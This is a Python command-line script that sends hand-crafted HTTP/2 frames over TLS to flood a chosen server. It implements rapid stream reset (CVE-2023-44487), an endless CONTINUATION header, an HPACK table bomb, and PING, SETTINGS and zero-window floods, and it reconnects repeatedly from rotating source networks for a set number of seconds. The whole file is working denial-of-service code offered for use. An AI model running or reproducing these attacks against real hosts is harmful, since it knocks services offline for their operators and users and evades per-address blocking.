"""Attacks of HTTP/2 over TLS, frame by frame: `http2.py KIND HOST PORT SECONDS`.

reset         opens a stream and resets it at once (CVE-2023-44487)
continuation  a head that never ends (VU#421644)
table         a header block that grows by references to a full dynamic table (HPACK bomb)
ping          pings without an end
settings      settings without an end
window        opens every stream, never opens its window
"""
import struct
import sys

from sources import connect, many_networks, secure, tell, until

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# :method GET, :scheme https, :path /, and an authority of one letter (RFC 7541, appendix A).
REQUEST = b"\x82\x87\x84\x41\x01a"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def reset(n):
    """A hundred streams, each reset at once."""
    first = 1 + 200 * n
    return b"".join(frame(1, 5, s, REQUEST) + frame(3, 0, s, struct.pack(">I", 8)) for s in range(first, first + 200, 2))


def continuation(n):
    block = b"\x00\x01b\x7f\x81\x03" + b"v" * 500
    return (frame(1, 1, 1, REQUEST) if n == 0 else b"") + frame(9, 0, 1, block * 10)


def table(n):
    # One entry of 4,000 bytes, then a thousand references to it.
    entry = b"\x40\x01b\x7f\xa1\x1e" + b"v" * 4000
    return frame(1, 5, 1 + 2 * n, REQUEST + entry + b"\xbe" * 8000)


KINDS = {
    "reset": reset,
    "continuation": continuation,
    "table": table,
    "ping": lambda n: frame(6, 0, 0, bytes(8)) * 200,
    "settings": lambda n: frame(4, 0, 0, struct.pack(">HI", 3, 100)) * 200,
    "window": lambda n: b"".join(frame(1, 5, 1 + 2 * s, REQUEST) for s in range(200 * n, 200 * n + 100)),
}


def main(kind, host, port, seconds):
    to, sources, more = (host, int(port)), many_networks(), KINDS[kind]
    connections = ended = sent = 0
    line, n = None, 0
    for _ in until(float(seconds)):
        if line is None:
            raw = connect(next(sources), to)
            line = raw and secure(raw, to, "h2")
            if line is None:
                continue
            connections, n = connections + 1, 0
            line.settimeout(0.2)
            first = struct.pack(">HI", 4, 0) if kind == "window" else b""
            line.sendall(PREFACE + frame(4, 0, 0, first))
        try:
            sent += line.send(more(n))
            n += 1
            line.setblocking(False)
            try:
                if not line.recv(65536):
                    raise ConnectionResetError
            except (BlockingIOError, __import__("ssl").SSLWantReadError):
                pass
            line.settimeout(0.2)
        except OSError:
            line.close()
            line, ended = None, ended + 1
    tell(connections=connections, ended=ended, sent_bytes=sent)


main(*sys.argv[1:])
